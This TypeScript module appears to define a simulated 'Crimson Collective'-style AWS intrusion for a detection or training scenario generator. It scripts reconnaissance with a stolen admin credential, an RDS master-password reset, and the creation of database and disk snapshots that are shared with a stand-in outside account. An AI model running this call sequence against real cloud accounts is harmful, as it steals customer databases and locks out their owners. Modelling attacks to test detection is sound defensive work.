/** As Crimson Collective does: who am I, what does it cost, then snapshots of databases and disks are shared. */
import { inUse, victim } from '../attack.ts';
import type { Attack } from '../attack.ts';
import { anyHideout, nextExit, plainTool } from '../hideouts.ts';

export const databaseTheft: Attack = {
  name: 'database-theft',
  title: 'Databases are copied and shared with another account',
  victims: [(holder, day) => inUse(holder, day) && holder.admin],
  days: 2,
  least: 14,
  run(raid, victims) {
    const { random } = raid;
    const holder = victim(victims, 0);
    const address = anyHideout(random);
    raid.from(address, plainTool(random)).steal(holder).call('sts:GetCallerIdentity');
    raid.each(['iam:GetUser', 'iam:ListRoles', 'iam:SimulatePrincipalPolicy', 'iam:ListAccountAliases']);
    raid.each([
      'ce:GetCostAndUsage',
      'ce:GetCostForecast',
      'rds:DescribeDBInstances',
      'ec2:DescribeSnapshots',
    ]);
    raid.wait(60).from(nextExit(address, random), plainTool(random));
    const database = random.pick(raid.account.databases);
    const snapshot = `${database}-copy`;
    raid.call('rds:ModifyDBInstance', {
      parameters: { dBInstanceIdentifier: database, masterUserPassword: '****', applyImmediately: true },
    });
    raid.call('rds:CreateDBSnapshot', {
      parameters: { dBSnapshotIdentifier: snapshot, dBInstanceIdentifier: database },
    });
    raid.call('rds:ModifyDBSnapshotAttribute', {
      parameters: { dBSnapshotIdentifier: snapshot, attributeName: 'restore', valuesToAdd: ['999900001111'] },
    });
    raid.plant('ModifyDBSnapshotAttribute', snapshot);
    const snapshotId = `snap-0${random.hex(16)}`;
    raid.call('ec2:CreateSnapshot', { response: { snapshotId } });
    raid.call('ec2:ModifySnapshotAttribute', {
      parameters: { snapshotId, createVolumePermission: { add: { items: [{ userId: '999900001111' }] } } },
    });
    raid.plant('ModifySnapshotAttribute', snapshotId);
  },
};
